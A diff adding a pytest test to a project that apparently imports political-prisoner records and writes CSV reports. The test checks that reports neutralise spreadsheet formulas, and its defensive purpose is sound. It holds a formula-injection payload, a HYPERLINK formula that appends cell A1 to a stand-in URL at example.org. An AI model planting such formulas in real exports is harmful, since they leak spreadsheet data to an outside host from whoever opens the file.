@@ -14,6 +14,7 @@ from sqlmodel import select
 
 from app.database import Database
 from app.models import Prisoner
+from tests.catalogue.importing.bringing import VERA
 from tests.serving import LIFELINE, environment
 from tests.standins import source
 from tests.standins.ovdinfo import OvdInfo
@@ -94,6 +95,23 @@ def test_saved_files_and_tables(
     assert "Applied." in done.stdout
     assert ", 1 of 1" in done.stderr
     assert people(database) == before + 1
+
+
+@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
+def test_a_formula_in_somebodys_list_is_words_in_the_report(
+    database: Database, process_settings: dict[str, str], tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("https://example.org/?"&A1)'
+    row = VERA | {"person_id": formula}
+    (tmp_path / "data.json").write_text(json.dumps({"data": [row]}))
+    report = tmp_path / "report.csv"
+    words = ("--file", str(tmp_path / "data.json"), "--report", str(report))
+    done = typed(process_settings, "ovdinfo", *words)
+    assert done.returncode == 0, done.stderr
+    with report.open(encoding="utf-8-sig", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)
+    assert not [cell for cell in cells if cell.startswith("=")]
 
 
 @pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
